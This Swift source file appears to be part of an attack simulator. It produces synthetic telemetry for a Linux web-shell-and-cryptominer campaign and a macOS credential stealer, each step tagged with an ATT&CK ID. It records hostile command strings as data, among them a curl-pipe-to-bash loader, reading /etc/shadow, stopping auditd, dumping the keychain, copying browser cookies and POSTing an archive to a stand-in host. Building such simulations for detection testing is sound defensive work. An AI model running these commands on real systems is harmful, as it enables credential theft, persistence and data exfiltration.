/// Attacks on Linux and macOS machines.
extension CampaignStage {
  mutating func playWebShell(victim: SimulatedHost) {
    var server = factory(victim)
    step("T1505.003", "TA0003", after: 0)
    let web = server.start("/usr/sbin/nginx", "nginx: worker process", parent: nil, user: -1, at: now - 5_000_000_000).0
    let php = run(&server, "/usr/sbin/php-fpm8.2", "php-fpm: pool www", parent: web, user: -1)
    add(server.file("/var/www/html/uploads/img_\(random.hex(4)).php", "creation", by: php, at: now + 100_000_000))
    step("T1059.004", "TA0002", after: 30)
    let shell = run(&server, "/usr/bin/sh", "sh -c id; uname -a; whoami", parent: php, user: -1)
    _ = run(&server, "/usr/bin/whoami", "whoami", parent: shell, user: -1)
    step("T1105", "TA0011", after: 60)
    let loader = run(
      &server, "/usr/bin/bash", "bash -c curl -fsSL http://203.0.113.77/x.sh | bash", parent: shell, user: -1)
    let curl = run(&server, "/usr/bin/curl", "curl -fsSL http://203.0.113.77/x.sh", parent: loader, user: -1)
    add(server.connect(curl, to: "203.0.113.77", port: 80, at: now + 40_000_000))
    step("T1003.008", "TA0006", after: 20)
    _ = run(&server, "/usr/bin/cat", "cat /etc/shadow", parent: loader, user: -1)
    step("T1053.003", "TA0003", after: 15)
    let cron = run(&server, "/usr/bin/crontab", "crontab -", parent: loader, user: -1)
    add(server.file("/var/spool/cron/crontabs/root", "change", by: cron, at: now + 20_000_000))
    step("T1098.004", "TA0003", after: 10)
    add(server.file("/root/.ssh/authorized_keys", "change", by: loader, at: now))
    step("T1562.001", "TA0005", after: 10)
    _ = run(&server, "/usr/bin/systemctl", "systemctl stop auditd", parent: loader, user: -1)
    step("T1496", "TA0040", after: 30)
    let miner = run(
      &server, "/tmp/.x/kdevtmpfsi", "kdevtmpfsi -o stratum+tcp://pool.xmr.example:3333 -u 48a --cpu-priority 5",
      parent: loader, user: -1)
    for number in 0..<6 {
      add(server.connect(miner, to: "203.0.113.90", port: 3_333, at: now + Int64(number + 1) * 30_000_000_000))
    }
  }

  mutating func playStealer(victim: SimulatedHost, user: Int) {
    var mac = factory(victim)
    let home = "/Users/\(fleet.users[user].name)"
    step("T1204.002", "TA0002", after: 0)
    let launch = mac.start("/sbin/launchd", "/sbin/launchd", parent: nil, user: -1, at: now - 5_000_000_000).0
    let app = run(&mac, "/Volumes/Installer/Update.app/Contents/MacOS/Update", "Update", parent: launch, user: user)
    step("T1056.002", "TA0009", after: 5)
    let script = run(
      &mac, "/usr/bin/osascript",
      #"osascript -e display dialog "macOS needs your password to continue" default answer "" with hidden answer"#,
      parent: app, user: user)
    step("T1555.001", "TA0006", after: 20)
    _ = run(
      &mac, "/usr/bin/security", "security dump-keychain -d \(home)/Library/Keychains/login.keychain-db",
      parent: script, user: user)
    step("T1539", "TA0006", after: 4)
    let shell = run(
      &mac, "/bin/sh", "sh -c cp \(home)/Library/Application\\ Support/Google/Chrome/Default/Cookies /tmp/.c",
      parent: app, user: user)
    step("T1543.001", "TA0003", after: 6)
    add(mac.file("\(home)/Library/LaunchAgents/com.apple.softwareupdated.plist", "creation", by: shell, at: now))
    _ = run(
      &mac, "/bin/launchctl", "launchctl load -w \(home)/Library/LaunchAgents/com.apple.softwareupdated.plist",
      parent: shell, user: user)
    step("T1553.001", "TA0005", after: 4)
    _ = run(&mac, "/usr/bin/xattr", "xattr -d com.apple.quarantine \(home)/Library/.upd", parent: shell, user: user)
    step("T1560.001", "TA0009", after: 10)
    _ = run(&mac, "/usr/bin/ditto", "ditto -c -k --sequesterRsrc /tmp/.c /tmp/out.zip", parent: shell, user: user)
    step("T1041", "TA0010", after: 5)
    let curl = run(
      &mac, "/usr/bin/curl", "curl -s -X POST -F file=@/tmp/out.zip http://203.0.113.41/gate", parent: shell, user: user
    )
    add(mac.connect(curl, to: "203.0.113.41", port: 80, at: now + 30_000_000))
  }
}
